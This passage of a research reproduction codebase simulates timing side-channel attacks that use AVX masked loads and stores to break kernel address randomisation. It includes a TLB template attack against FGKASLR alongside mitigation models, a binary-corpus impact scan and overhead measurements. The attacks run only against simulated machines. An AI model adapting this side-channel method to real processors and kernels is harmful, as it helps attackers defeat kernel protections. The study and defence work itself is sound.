        pt_result.base != machine.kernel.base or mapped_fraction > 0.9
    )

    # 2. the TLB attack still reveals the executed kernel
    tlb_base, hot_slots = tlb_kaslr_break(machine)
    tlb_correct = tlb_base == machine.kernel.base

    return FlareEvaluation(
        page_table_base=pt_result.base,
        page_table_defeated=pt_defeated,
        tlb_base=tlb_base,
        tlb_correct=tlb_correct,
        hot_slots=hot_slots,
        mapped_fraction=mapped_fraction,
    )


def evaluate_without_flare(machine):
    """Control run: the page-table attack on an unprotected kernel."""
    calibration = calibrate_store_threshold(machine)
    result = break_kaslr_intel(machine, calibration=calibration)
    return result.base == machine.kernel.base
