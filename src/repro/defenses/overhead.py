"""Performance/memory overhead of the Section V mitigations.

The paper leaves "the detailed performance evaluation of these
mitigations for future work"; this module provides it for the simulated
substrate:

* **zero-mask NOP** -- run a vectorized workload (masked ops with live
  masks on mapped pages) with and without the microcode change; the fix
  only touches the all-zero-mask path, so legitimate code should see no
  slowdown.
* **FLARE** -- dummy mappings cost physical frames and paging
  structures; count them.
* **FGKASLR** -- 4 KiB text mappings replace 2 MiB ones: measure the
  extra PTEs and the kernel's own TLB-reach degradation (more walks for
  the same working set).
"""

from repro.defenses.nop_mask import enable_nop_mask_mitigation
from repro.cpu.avx import make_mask
from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE


class OverheadReport:
    """One mitigation's measured costs."""

    __slots__ = ("name", "metrics")

    def __init__(self, name, metrics):
        self.name = name
        self.metrics = dict(metrics)

    def __repr__(self):
        return "OverheadReport({!r}, {})".format(self.name, self.metrics)


def _vector_workload(machine, iterations=2000):
    """A legitimate masked-op workload: strided masked loads/stores with
    live masks over a mapped buffer (what ffmpeg-style code does)."""
    core = machine.core
    buffer_pages = 16
    base = machine.process.mmap(buffer_pages, "rw-", name="vec-buffer")
    # fault everything in and dirty it, as real initialization would
    for i in range(buffer_pages):
        core.masked_store(
            base + i * PAGE_SIZE, make_mask([0, 2, 4, 6]),
            data=b"\x01" * 32,
        )
    start = core.clock.cycles
    mask = make_mask([0, 1, 2, 3])
    for i in range(iterations):
        va = base + (i % (buffer_pages * 128)) * 32
        core.masked_load(va, mask)
        core.masked_store(va, mask, data=b"\x02" * 32)
    return core.clock.elapsed_since(start)


def nop_mask_overhead(seed=0, iterations=2000):
    """Slowdown of legitimate masked-op code under the NOP-mask fix."""
    baseline = _vector_workload(Machine.linux(seed=seed), iterations)
    mitigated_machine = enable_nop_mask_mitigation(Machine.linux(seed=seed))
    mitigated = _vector_workload(mitigated_machine, iterations)
    slowdown = mitigated / baseline
    return OverheadReport("zero-mask NOP", {
        "baseline_cycles": baseline,
        "mitigated_cycles": mitigated,
        "slowdown": slowdown,
    })


def flare_overhead(seed=0):
    """Physical-memory cost of FLARE's dummy mappings."""
    plain = Machine.linux(seed=seed)
    defended = Machine.linux(seed=seed, flare=True)
    plain_frames = plain.kernel.kernel_space.frames.allocated_count
    flare_frames = defended.kernel.kernel_space.frames.allocated_count
    extra = flare_frames - plain_frames
    return OverheadReport("FLARE", {
        "baseline_frames": plain_frames,
        "flare_frames": flare_frames,
        "extra_frames": extra,
        "extra_mib": extra * PAGE_SIZE / (1 << 20),
    })


def fgkaslr_overhead(seed=0, touches=3000):
    """TLB-reach cost of FGKASLR's 4 KiB text mappings.

    The kernel touching its own text sweeps far more TLB entries when the
    text is 4 KiB-mapped; measure walks per touch for the same randomly
    drawn instruction working set.
    """
    import numpy as np

    results = {}
    for label, fgkaslr in (("2MiB text", False), ("4KiB text", True)):
        machine = Machine.linux(seed=seed, fgkaslr=fgkaslr)
        core = machine.core
        kernel = machine.kernel
        rng = np.random.default_rng(seed)
        text_bytes = max(1, kernel.image_2m_pages // 2) * (2 << 20)
        offsets = rng.integers(0, text_bytes, size=touches)
        addresses = [(kernel.base + int(o)) & ~0xFFF for o in offsets]
        before = core.perf.read("DTLB_LOAD_MISSES.WALK_COMPLETED")
        core.kernel_touch(addresses)
        walks = core.perf.read("DTLB_LOAD_MISSES.WALK_COMPLETED") - before
        results[label] = walks / touches
    return OverheadReport("FGKASLR", {
        "walks_per_touch_2m": results["2MiB text"],
        "walks_per_touch_4k": results["4KiB text"],
        "walk_inflation": (
            results["4KiB text"] / max(results["2MiB text"], 1e-9)
        ),
    })
