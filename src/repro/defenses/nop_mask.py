"""The masked-op NOP mitigation and its deployment-impact scan (§V-B).

The proposed hardware/microcode fix: when every mask bit is zero, retire
the masked load/store as a NOP -- no translation, no assist, no TLB fill.
``enable_nop_mask_mitigation`` switches a machine's AVX unit into that
mode; with it on, every probe times identically and all attacks collapse.

The paper argues the fix is cheap because almost nothing uses the masked
ops: on a default Ubuntu 20.04.3 install only **6 of 4104 executables**
contain a VMASKMOV/VPMASKMOV.  :class:`BinaryCorpus` reconstructs such a
corpus (synthetic instruction histograms, deterministic) and the scanner
reproduces the 6/4104 figure.
"""

import numpy as np

#: Real-world packages whose builds are known to carry AVX masked ops
#: (vectorized math/media code) -- used as the corpus's affected binaries.
AFFECTED_BINARY_NAMES = (
    "ffmpeg",
    "gs",
    "inkview",
    "openscad",
    "blender-thumbnailer",
    "mpv",
)

#: Instruction mnemonics tracked per synthetic binary.
TRACKED_MNEMONICS = (
    "mov", "lea", "add", "call", "jmp", "vmovaps", "vaddps",
    "vmaskmovps", "vpmaskmovd",
)

MASKED_MNEMONICS = ("vmaskmovps", "vpmaskmovd")


def enable_nop_mask_mitigation(machine):
    """Turn the zero-mask NOP behaviour on for this machine's core."""
    machine.core.avx.zero_mask_nop = True
    return machine


class Binary:
    """One executable: a name and an instruction histogram."""

    __slots__ = ("name", "histogram")

    def __init__(self, name, histogram):
        self.name = name
        self.histogram = histogram

    @property
    def uses_masked_ops(self):
        return any(self.histogram.get(m, 0) > 0 for m in MASKED_MNEMONICS)

    def __repr__(self):
        return "Binary({!r})".format(self.name)


class BinaryCorpus:
    """A synthetic distro-install corpus of executables."""

    def __init__(self, binaries):
        self.binaries = list(binaries)

    @classmethod
    def ubuntu_default(cls, total=4104, seed=0):
        """Reconstruct the paper's Ubuntu 20.04.3 default-install corpus."""
        rng = np.random.default_rng(seed)
        binaries = []
        affected = set(AFFECTED_BINARY_NAMES)
        for index in range(total - len(affected)):
            histogram = {
                "mov": int(rng.integers(200, 40000)),
                "lea": int(rng.integers(50, 9000)),
                "add": int(rng.integers(50, 8000)),
                "call": int(rng.integers(30, 6000)),
                "jmp": int(rng.integers(30, 5000)),
            }
            if rng.random() < 0.15:  # plain AVX is common, masked ops rare
                histogram["vmovaps"] = int(rng.integers(1, 400))
                histogram["vaddps"] = int(rng.integers(1, 300))
            binaries.append(Binary("bin-{:04d}".format(index), histogram))
        for name in sorted(affected):
            histogram = {
                "mov": int(rng.integers(5000, 80000)),
                "vmovaps": int(rng.integers(100, 2000)),
                "vaddps": int(rng.integers(100, 1500)),
                "vmaskmovps": int(rng.integers(1, 60)),
                "vpmaskmovd": int(rng.integers(0, 40)),
            }
            binaries.append(Binary(name, histogram))
        return cls(binaries)

    def scan(self):
        """Names of binaries that would break if masked ops were removed."""
        return [b.name for b in self.binaries if b.uses_masked_ops]

    def __len__(self):
        return len(self.binaries)


def mitigation_impact(corpus=None, seed=0):
    """(affected_count, total, fraction) of the NOP-mask mitigation."""
    if corpus is None:
        corpus = BinaryCorpus.ubuntu_default(seed=seed)
    affected = corpus.scan()
    return len(affected), len(corpus), len(affected) / len(corpus)
