"""FGKASLR and its TLB-template bypass (paper Section V-A).

Function Granular KASLR reorders individual kernel functions at boot, so
knowing the image base no longer yields function addresses.  The paper's
bypass (after Lipp et al.) is a *template attack* on TLB state:

1. evict the translation caches,
2. invoke the target syscall (the kernel touches the handler's text page),
3. single-probe every kernel text page; the hot pages are the entry stub
   plus the handler's page.

Pages hot for *every* syscall (the shared entry path) are filtered out by
intersection; what remains localizes each handler at 4 KiB granularity --
FGKASLR's own requirement of 4 KiB text pages is what makes this work.
"""

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M


class TemplateAttackResult:
    """Recovered handler pages, and how they compare to ground truth."""

    __slots__ = ("handler_pages", "common_pages", "probed_pages", "runtime_ms")

    def __init__(self, handler_pages, common_pages, probed_pages, runtime_ms):
        self.handler_pages = handler_pages
        self.common_pages = common_pages
        self.probed_pages = probed_pages
        self.runtime_ms = runtime_ms

    def accuracy(self, kernel):
        """Fraction of targeted handlers located on their true page."""
        if not self.handler_pages:
            return 0.0
        correct = sum(
            1 for name, page in self.handler_pages.items()
            if page is not None
            and kernel.functions[name] // PAGE_SIZE == page // PAGE_SIZE
        )
        return correct / len(self.handler_pages)

    def __repr__(self):
        return "TemplateAttackResult({} handlers, {:.1f} ms)".format(
            len(self.handler_pages), self.runtime_ms
        )


def _text_pages(kernel):
    """All 4 KiB page addresses of the kernel's text half."""
    text_bytes = max(1, kernel.image_2m_pages // 2) * PAGE_SIZE_2M
    return [
        kernel.base + i * PAGE_SIZE
        for i in range(text_bytes // PAGE_SIZE)
    ]


def tlb_template_attack(machine, syscalls, hit_threshold=None,
                        known_base=None):
    """Locate each syscall handler's text page despite FGKASLR.

    ``known_base`` defaults to the machine's true base: the template
    attack is stage two, run after a standard KASLR break has already
    recovered the base.
    """
    if len(syscalls) < 2:
        raise ValueError(
            "the template attack separates the shared entry path from the "
            "per-syscall handler by differencing; give it >= 2 syscalls"
        )
    core = machine.core
    kernel = machine.kernel
    cpu = machine.cpu
    if hit_threshold is None:
        # By the time a hot page is probed, earlier probe fills have
        # usually pushed its entry from the L1 into the sTLB, so the
        # boundary sits midway between an L2 hit and a warm 4 KiB walk.
        hit_l2 = cpu.load_base + cpu.tlb_hit_l2 + cpu.assist_load
        miss = (cpu.load_base + cpu.assist_load + cpu.walk_base
                + cpu.walk_access_hot + 4 * cpu.level_step_cycles)
        hit_threshold = cpu.measurement_overhead + (hit_l2 + miss) / 2
    pages = _text_pages(kernel)
    if known_base is not None:
        delta = known_base - kernel.base
        pages = [va + delta for va in pages]

    # Probing itself fills the TLB; sweeping all text pages in one go would
    # evict the handler's entry before reaching it.  Probe in chunks small
    # enough not to overflow any TLB set, re-priming before each chunk.
    chunk = 1024

    start_cycles = core.clock.cycles
    hot_sets = {}
    for name in syscalls:
        hot = set()
        for lo in range(0, len(pages), chunk):
            core.evict_translation_caches()
            kernel.syscall(core, name)
            for va in pages[lo : lo + chunk]:
                if core.timed_masked_load(va) <= hit_threshold:
                    hot.add(va)
        hot_sets[name] = hot

    common = set.intersection(*hot_sets.values()) if hot_sets else set()
    handler_pages = {}
    for name, hot in hot_sets.items():
        unique = sorted(hot - common)
        handler_pages[name] = unique[0] if len(unique) == 1 else None

    runtime_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(start_cycles)
    )
    return TemplateAttackResult(handler_pages, common, len(pages), runtime_ms)
