"""The countermeasures of paper Section V, and their bypasses."""

from repro.defenses.fgkaslr import TemplateAttackResult, tlb_template_attack
from repro.defenses.flare import FlareEvaluation, evaluate_flare
from repro.defenses.nop_mask import (
    BinaryCorpus,
    enable_nop_mask_mitigation,
    mitigation_impact,
)
from repro.defenses.overhead import (
    fgkaslr_overhead,
    flare_overhead,
    nop_mask_overhead,
)
from repro.defenses.rerandomize import evaluate_rerandomization
from repro.defenses.timer_coarsening import (
    evaluate_timer_coarsening,
    evaluate_tlb_attack_coarsening,
)
from repro.defenses.tlb_partition import evaluate_tlb_partitioning

__all__ = [
    "BinaryCorpus",
    "FlareEvaluation",
    "TemplateAttackResult",
    "enable_nop_mask_mitigation",
    "evaluate_flare",
    "evaluate_rerandomization",
    "evaluate_timer_coarsening",
    "evaluate_tlb_attack_coarsening",
    "evaluate_tlb_partitioning",
    "fgkaslr_overhead",
    "flare_overhead",
    "nop_mask_overhead",
    "mitigation_impact",
    "tlb_template_attack",
]
