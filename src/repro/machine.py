"""One-call construction of complete attack targets.

A :class:`Machine` bundles a CPU model, a booted OS, an attacker process
(with the handful of user pages the calibration step needs) and a core the
attack code drives.  Factories cover every environment the paper
evaluates: bare Linux, KPTI Linux, Windows (optionally KVAS), the three
cloud instances, and SGX-enclave-hosted attackers.
"""

import numpy as np

from repro.cpu.core import Core
from repro.cpu.models import get_cpu_model
from repro.errors import ConfigError
from repro.mmu.flags import flags_from_prot
from repro.mmu.address import PAGE_SIZE
from repro.os.cloud.instances import CLOUD_CATALOG
from repro.os.linux.kernel import LinuxKernel
from repro.os.linux.process import Process
from repro.os.sgx.enclave import Enclave
from repro.os.windows.kernel import WindowsKernel


class Playground:
    """Attacker-controlled user pages used for threshold calibration.

    The paper's calibration (Section IV-B) measures the masked store on a
    freshly mmap'd USER-M page whose dirty bit is still clear; Figure 3
    additionally needs r--, r-x and PROT_NONE pages.
    """

    __slots__ = ("user_rw", "user_ro", "user_rx", "user_none", "unmapped")

    def __init__(self, user_rw, user_ro, user_rx, user_none, unmapped):
        self.user_rw = user_rw
        self.user_ro = user_ro
        self.user_rx = user_rx
        self.user_none = user_none
        self.unmapped = unmapped


class Machine:
    """A complete simulated target: CPU + OS + attacker context."""

    def __init__(self, cpu, kernel, core, rng, os_family, process=None,
                 playground=None, instance=None):
        self.cpu = cpu
        self.kernel = kernel
        self.core = core
        self.rng = rng
        self.os_family = os_family
        self.process = process
        self.playground = playground
        self.instance = instance
        self.enclave = None
        #: disturbance runtime (:class:`repro.chaos.ChaosRuntime`) or None
        self.chaos = None
        #: the boot seed the factory was called with (None for machines
        #: assembled by hand); campaign journaling records it per unit
        #: so a resumed run can rebuild the identical victim
        self.seed = None

    def _attach_chaos(self, profile, chaos_rng):
        """Attach a disturbance runtime (no-op when ``profile`` is None)."""
        if profile is None:
            return self
        from repro.chaos import ChaosRuntime

        self.chaos = ChaosRuntime(profile, rng=chaos_rng).attach(self)
        return self

    # -- factories -------------------------------------------------------------

    @classmethod
    def linux(cls, cpu="i5-12400F", seed=0, kernel_version="5.11.0-27",
              kaslr=True, kpti=None, pcid=None, flare=False, fgkaslr=False,
              modules=None, libraries=None, noise_factor=1.0, chaos=None):
        """Boot a Linux machine.

        ``kpti=None`` follows the distro default: enabled exactly when the
        CPU is Meltdown-vulnerable.  ``pcid=None`` likewise: KPTI kernels
        use PCID-tagged TLB entries when the CPU has them (all modelled
        parts do); pass ``pcid=False`` for a ``nopcid`` boot, where every
        kernel exit flushes instead.

        ``chaos`` (a profile name or :class:`~repro.chaos.ChaosProfile`)
        attaches a disturbance-injection runtime seeded from the
        machine's 4th spawned stream -- the first three streams are
        unchanged, so chaos-off machines are bit-identical to before.
        """
        cpu = get_cpu_model(cpu)
        if kpti is None:
            kpti = cpu.meltdown_vulnerable
        if pcid is None:
            pcid = kpti
        seeds = np.random.SeedSequence(seed).spawn(4)
        layout_rng = np.random.default_rng(seeds[0])
        noise_rng = np.random.default_rng(seeds[1])
        machine_rng = np.random.default_rng(seeds[2])
        chaos_rng = np.random.default_rng(seeds[3])

        kernel = LinuxKernel(
            version=kernel_version, kaslr=kaslr, kpti=kpti,
            modules=modules, fgkaslr=fgkaslr, flare=flare, rng=layout_rng,
        )
        process = Process(kernel, libraries=libraries)
        core = Core(cpu, rng=noise_rng)
        core.noise.sigma *= noise_factor
        core.set_address_space(kernel.user_space)
        if kpti:
            if pcid:
                core.kernel_asid = 1
            else:
                core.kernel_exit_flushes = True
        playground = cls._build_playground(process)
        machine = cls(cpu, kernel, core, machine_rng, "linux",
                      process=process, playground=playground)
        machine.seed = seed
        return machine._attach_chaos(chaos, chaos_rng)

    @classmethod
    def windows(cls, cpu="i5-12400F", seed=0, version="21H2", kvas=None,
                noise_factor=1.0, chaos=None):
        """Boot a Windows 10 machine (KVAS follows Meltdown vulnerability)."""
        cpu = get_cpu_model(cpu)
        if kvas is None:
            kvas = cpu.meltdown_vulnerable
        seeds = np.random.SeedSequence(seed).spawn(4)
        kernel = WindowsKernel(
            version=version, kvas=kvas,
            rng=np.random.default_rng(seeds[0]),
        )
        core = Core(cpu, rng=np.random.default_rng(seeds[1]))
        core.noise.sigma *= noise_factor
        core.set_address_space(kernel.user_space)
        playground = cls._build_windows_playground(kernel)
        machine = cls(cpu, kernel, core, np.random.default_rng(seeds[2]),
                      "windows", playground=playground)
        machine.seed = seed
        return machine._attach_chaos(chaos, np.random.default_rng(seeds[3]))

    @classmethod
    def cloud(cls, provider, seed=0, chaos=None):
        """Rent one of the paper's cloud instances ('ec2', 'gce', 'azure')."""
        if provider not in CLOUD_CATALOG:
            raise ConfigError(
                "unknown provider {!r}; known: {}".format(
                    provider, ", ".join(sorted(CLOUD_CATALOG))
                )
            )
        instance = CLOUD_CATALOG[provider]
        if instance.os_family == "linux":
            machine = cls.linux(
                cpu=instance.cpu_key, seed=seed,
                kernel_version=instance.kernel_version,
                kpti=instance.kpti, noise_factor=instance.noise_factor,
                chaos=chaos,
            )
        else:
            machine = cls.windows(
                cpu=instance.cpu_key, seed=seed,
                version=instance.kernel_version, kvas=instance.kvas,
                noise_factor=instance.noise_factor, chaos=chaos,
            )
        machine.instance = instance
        return machine

    # -- SGX -----------------------------------------------------------------------

    def create_enclave(self, code_pages=16, data_pages=48, sgx2=True):
        """Create an enclave in this machine's process (Linux only)."""
        if self.process is None:
            raise ConfigError("enclaves require a Linux machine with a process")
        if not self.cpu.supports_sgx:
            raise ConfigError(
                "{} does not support SGX".format(self.cpu.name)
            )
        self.enclave = Enclave(
            self.process, code_pages=code_pages, data_pages=data_pages,
            sgx2=sgx2, rng=self.rng,
        )
        return self.enclave

    # -- shared plumbing --------------------------------------------------------------

    @staticmethod
    def _build_playground(process):
        user_rw = process.mmap(1, "rw-", name="calib/rw")
        user_ro = process.mmap(1, "r--", name="calib/ro")
        user_rx = process.mmap(1, "r-x", name="calib/rx")
        user_none = process.mmap(1, "---", name="calib/none")
        # one guaranteed-unmapped probe address: the guard page after the
        # last calibration mapping
        unmapped = user_none + PAGE_SIZE
        return Playground(user_rw, user_ro, user_rx, user_none, unmapped)

    @staticmethod
    def _build_windows_playground(kernel):
        base = 0x0000_2000_0000_0000
        space = kernel.user_space
        space.map_range(base, PAGE_SIZE, flags_from_prot(read=True, write=True))
        space.map_range(
            base + PAGE_SIZE, PAGE_SIZE, flags_from_prot(read=True)
        )
        space.map_range(
            base + 2 * PAGE_SIZE, PAGE_SIZE,
            flags_from_prot(read=True, execute=True),
        )
        return Playground(
            user_rw=base,
            user_ro=base + PAGE_SIZE,
            user_rx=base + 2 * PAGE_SIZE,
            user_none=base + 3 * PAGE_SIZE,
            unmapped=base + 4 * PAGE_SIZE,
        )

    # -- conveniences --------------------------------------------------------------------

    @property
    def clock(self):
        return self.core.clock

    def elapsed_ms(self, start_cycles):
        """Milliseconds of simulated time since ``start_cycles``."""
        return self.clock.cycles_to_ms(self.clock.elapsed_since(start_cycles))
