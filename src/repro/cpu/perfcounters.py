"""Performance-monitoring counters used in the paper's Figure 2.

Only the events the paper reads are modelled:

* ``ASSISTS.ANY``                       -- microcode assists issued
* ``DTLB_LOAD_MISSES.WALK_COMPLETED``   -- completed page-table walks
* ``DTLB_LOAD_MISSES.WALK_DURATION``    -- cycles spent walking
plus a few bookkeeping counters handy for tests.
"""


class PerfCounters:
    """A fixed set of named monotonically increasing counters."""

    EVENTS = (
        "ASSISTS.ANY",
        "DTLB_LOAD_MISSES.WALK_COMPLETED",
        "DTLB_LOAD_MISSES.WALK_DURATION",
        "DTLB_LOAD_MISSES.STLB_HIT",
        "MEM_INST_RETIRED.ALL_LOADS",
        "MEM_INST_RETIRED.ALL_STORES",
        "PAGE_FAULTS",
    )

    def __init__(self):
        self._counts = {event: 0 for event in self.EVENTS}

    def increment(self, event, amount=1):
        if event not in self._counts:
            raise KeyError("unknown performance event {!r}".format(event))
        self._counts[event] += amount

    def read(self, event):
        return self._counts[event]

    def snapshot(self):
        """Copy of all counters, for delta measurements."""
        return dict(self._counts)

    def delta_since(self, snapshot):
        """Per-event difference against a previous :meth:`snapshot`."""
        return {
            event: self._counts[event] - snapshot.get(event, 0)
            for event in self._counts
        }

    def reset(self):
        for event in self._counts:
            self._counts[event] = 0
