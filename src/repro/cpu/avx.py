"""AVX masked load/store execution model (VMASKMOV / VPMASKMOV).

This module encodes the six vulnerable properties the paper derives in
Section III:

* **P1 fault suppression** -- elements whose mask bit is clear never fault,
  even on invalid or inaccessible pages; an *active* element on a bad page
  raises an architectural #PF.
* **P2/P4 timing** -- the op's latency is the sum of a dispatch base, the
  address-translation cost (TLB hit, or a timed page walk), and a microcode
  assist penalty whenever the touched page is invalid or inaccessible.
* **P5 permissions** -- the assist flavour differs for stores: a write-
  permission assist on read-only pages, an A/D-bit assist on clean writable
  pages, and the full fault-determination path on non-present pages.
* **P6 load/store asymmetry** -- the store assist retires faster than the
  load assist (paper: 16-18 cycles on Ice Lake).

The Intel/AMD behavioural split (whether a user-mode probe of a
kernel-mapped page leaves a TLB entry behind) is applied here via the CPU
model's ``fills_tlb_for_supervisor_user_probe`` flag.
"""

from repro.errors import PageFault
from repro.mmu.address import PAGE_SIZE, page_align_down
from repro.mmu.flags import PageFlags

#: Vector width in bytes (256-bit YMM operand).
VECTOR_BYTES = 32

#: Supported element widths (VMASKMOVPS/D, VPMASKMOVD/Q).
ELEMENT_SIZES = (4, 8)


def make_mask(active_indices=(), element_size=4):
    """Build a mask tuple for a 256-bit vector.

    ``active_indices`` lists the element positions whose mask MSB is set.
    The common attack configuration is the all-zero mask, ``make_mask()``.
    """
    if element_size not in ELEMENT_SIZES:
        raise ValueError("element size must be one of {}".format(ELEMENT_SIZES))
    count = VECTOR_BYTES // element_size
    mask = [False] * count
    for index in active_indices:
        if not 0 <= index < count:
            raise ValueError(
                "element index {} out of range for {} elements".format(
                    index, count
                )
            )
        mask[index] = True
    return tuple(mask)


ZERO_MASK = make_mask()


class MaskedOpResult:
    """Outcome of one masked load/store."""

    __slots__ = (
        "cycles",
        "assist",
        "assist_kind",
        "tlb_level",
        "walks",
        "value",
        "is_store",
    )

    def __init__(self, cycles, assist, assist_kind, tlb_level, walks, value, is_store):
        self.cycles = cycles
        self.assist = assist
        self.assist_kind = assist_kind
        self.tlb_level = tlb_level
        self.walks = walks
        self.value = value
        self.is_store = is_store

    @property
    def walked(self):
        return self.walks > 0


class AVXUnit:
    """Executes masked vector loads/stores against a core's MMU state.

    The unit is stateless apart from references to its owning core's TLB,
    walker, performance counters and CPU model; one instance lives per
    :class:`~repro.cpu.core.Core`.
    """

    def __init__(self, cpu, tlb, walker, perf):
        self.cpu = cpu
        self.tlb = tlb
        self.walker = walker
        self.perf = perf
        #: Section V-B mitigation: retire all-zero-mask ops as NOPs --
        #: no translation, no assist, no TLB side effects.
        self.zero_mask_nop = False

    # -- public entry points ------------------------------------------------

    def masked_load(self, space, va, mask=ZERO_MASK, element_size=4,
                    privileged=False, page_size_hint=None):
        """VPMASKMOV load: returns a :class:`MaskedOpResult`."""
        return self._masked_op(
            space, va, mask, element_size, privileged, is_store=False,
            data=None, page_size_hint=page_size_hint,
        )

    def masked_store(self, space, va, mask=ZERO_MASK, element_size=4,
                     privileged=False, data=None, page_size_hint=None):
        """VPMASKMOV store of ``data`` (bytes per active element)."""
        return self._masked_op(
            space, va, mask, element_size, privileged, is_store=True,
            data=data, page_size_hint=page_size_hint,
        )

    # -- implementation -----------------------------------------------------

    def _masked_op(self, space, va, mask, element_size, privileged, is_store,
                   data, page_size_hint=None):
        if element_size not in ELEMENT_SIZES:
            raise ValueError("bad element size {}".format(element_size))
        count = VECTOR_BYTES // element_size
        if len(mask) != count:
            raise ValueError(
                "mask has {} bits, vector has {} elements".format(
                    len(mask), count
                )
            )

        self.perf.increment(
            "MEM_INST_RETIRED.ALL_STORES" if is_store
            else "MEM_INST_RETIRED.ALL_LOADS"
        )

        cycles = self.cpu.store_base if is_store else self.cpu.load_base

        if self.zero_mask_nop and not any(mask):
            # mitigated hardware: the op never reaches the memory pipeline
            return MaskedOpResult(
                cycles=cycles, assist=False, assist_kind=None,
                tlb_level=None, walks=0,
                value=None if is_store else b"\x00" * VECTOR_BYTES,
                is_store=is_store,
            )
        pages = self._spanned_pages(va, element_size, count)

        # 1. translate every page the vector spans, charging TLB/walk time
        translations = {}
        tlb_level = None
        walks = 0
        for page in pages:
            translation, level, walk_cycles = self._translate(
                space, page, privileged, page_size_hint
            )
            translations[page] = translation
            cycles += walk_cycles
            if level is not None:
                tlb_level = level
            else:
                walks += 1

        # 2. fault check for *active* elements only (P1)
        self._check_faults(va, mask, element_size, translations, privileged,
                           is_store)

        # 3. microcode assist (P2/P5/P6)
        assist_kind, assist_cycles = self._assist(
            translations.values(), privileged, is_store
        )
        if assist_kind is not None:
            self.perf.increment("ASSISTS.ANY")
            cycles += assist_cycles

        # 4. architectural data movement + A/D bit updates
        value = self._move_data(space, va, mask, element_size, translations,
                                is_store, data, privileged)

        return MaskedOpResult(
            cycles=cycles,
            assist=assist_kind is not None,
            assist_kind=assist_kind,
            tlb_level=tlb_level,
            walks=walks,
            value=value,
            is_store=is_store,
        )

    @staticmethod
    def _spanned_pages(va, element_size, count):
        """Distinct page bases covered by [va, va + 32)."""
        first = page_align_down(va)
        last = page_align_down(va + element_size * count - 1)
        if first == last:
            return (first,)
        return (first, last)

    def _translate(self, space, page_va, privileged, page_size_hint=None):
        """TLB-first translation of one page.

        Returns ``(translation_or_None, tlb_level_or_None, cycles)``.
        """
        entry, level = self.tlb.lookup(page_va, page_size_hint)
        if entry is not None:
            cost = (
                self.cpu.tlb_hit_l1 if level == "L1" else self.cpu.tlb_hit_l2
            )
            if level == "L2":
                self.perf.increment("DTLB_LOAD_MISSES.STLB_HIT")
            translation = _TLBTranslation(page_va, entry)
            return translation, level, cost

        walk = self.walker.walk(space.page_table, page_va)
        translation = walk.translation
        if translation is not None and self._may_cache(translation, privileged):
            self.tlb.fill(translation)
        return translation, None, walk.cycles

    def _may_cache(self, translation, privileged):
        """TLB fill policy -- the Intel/AMD split of the paper."""
        if translation.flags.user or privileged:
            return True
        return self.cpu.fills_tlb_for_supervisor_user_probe

    def _check_faults(self, va, mask, element_size, translations, privileged,
                      is_store):
        for index, active in enumerate(mask):
            if not active:
                continue
            element_va = va + index * element_size
            page = page_align_down(element_va)
            translation = translations[page]
            fault = None
            if translation is None:
                fault = PageFault(element_va, present=False, write=is_store,
                                  user=not privileged)
            else:
                flags = translation.flags
                if not privileged and not flags.user:
                    fault = PageFault(element_va, present=True, write=is_store,
                                      user=True)
                elif is_store and not flags.writable:
                    fault = PageFault(element_va, present=True, write=True,
                                      user=not privileged)
            if fault is not None:
                self.perf.increment("PAGE_FAULTS")
                raise fault

    def _assist(self, translations, privileged, is_store):
        """Pick the assist flavour; the most expensive page wins (one
        assist is issued per instruction).  Returns (kind, cycles)."""
        kind, cost = None, 0
        for translation in translations:
            candidate = self._page_assist(translation, privileged, is_store)
            if candidate is None:
                continue
            candidate_cost = self._assist_cost(candidate)
            if candidate_cost > cost:
                kind, cost = candidate, candidate_cost
        return kind, cost

    @staticmethod
    def _page_assist(translation, privileged, is_store):
        if translation is None:
            # Full fault-determination microcode path (P1 suppression).
            return "store-fault" if is_store else "load-fault"
        flags = translation.flags
        accessible = flags.user or privileged
        if not is_store:
            return None if accessible else "load-inaccessible"
        if not accessible or not flags.writable:
            return "store-perm"
        if not flags.dirty:
            return "dirty"
        return None

    def _assist_cost(self, kind):
        costs = {
            "load-inaccessible": self.cpu.assist_load,
            "load-fault": self.cpu.assist_load,
            "store-perm": self.cpu.assist_store,
            "dirty": self.cpu.assist_dirty,
            "store-fault": self.cpu.assist_store_fault,
        }
        return costs[kind]

    def _move_data(self, space, va, mask, element_size, translations,
                   is_store, data, privileged):
        """Perform the architectural byte movement for active elements."""
        if not any(mask):
            return None if is_store else b"\x00" * VECTOR_BYTES
        if is_store and data is None:
            data = b"\x00" * VECTOR_BYTES
        out = bytearray(VECTOR_BYTES)
        dirtied = set()
        for index, active in enumerate(mask):
            if not active:
                continue
            element_va = va + index * element_size
            page = page_align_down(element_va)
            translation = translations[page]
            offset_in_page = element_va - page
            pa = translation.pfn * PAGE_SIZE + (
                offset_in_page
                if translation.page_size == PAGE_SIZE
                else element_va & (translation.page_size - 1)
            )
            start = index * element_size
            if is_store:
                space.memory.write(pa, bytes(data[start : start + element_size]))
                if page not in dirtied:
                    space.page_table.set_flag(
                        translation.va, PageFlags.DIRTY | PageFlags.ACCESSED
                    )
                    dirtied.add(page)
            else:
                out[start : start + element_size] = space.memory.read(
                    pa, element_size
                )
                space.page_table.set_flag(translation.va, PageFlags.ACCESSED)
        if is_store and dirtied:
            # Refresh cached flags so later stores see the dirty bit.
            for page in dirtied:
                refreshed = space.page_table.lookup(page).translation
                if refreshed is not None and self._may_cache(
                    refreshed, privileged
                ):
                    self.tlb.fill(refreshed)
        return None if is_store else bytes(out)


class _TLBTranslation:
    """Adapter presenting a TLB entry with the Translation interface."""

    __slots__ = ("va", "pfn", "flags", "page_size", "level")

    _LEVEL_OF_SIZE = {1 << 30: 1, 1 << 21: 2, PAGE_SIZE: 3}

    def __init__(self, va, entry):
        self.va = va
        self.pfn = entry.pfn
        self.flags = entry.flags
        self.page_size = entry.page_size
        self.level = self._LEVEL_OF_SIZE[entry.page_size]
