"""Batched probe engine: the fast path for sweep-shaped measurement.

Every paper experiment is a probe *sweep* -- the same masked op repeated
``rounds`` times over each address of a long scan range.  The per-op
simulator executes each of those ops as an isolated Python call; this
module exploits the simulator's own steady-state property to skip almost
all of them:

* the **first** access to a VA changes microarchitectural state (TLB
  fill, PSC fill, paging lines turning hot) and has a distinct latency;
* the **second** access runs against the settled state, and every access
  after it is *idempotent*: identical cycles, identical performance-
  counter deltas, no further state change.

So the engine executes at most two reference ops per VA through the
bit-exact per-op path, then accounts for the skipped repetitions in
closed form:

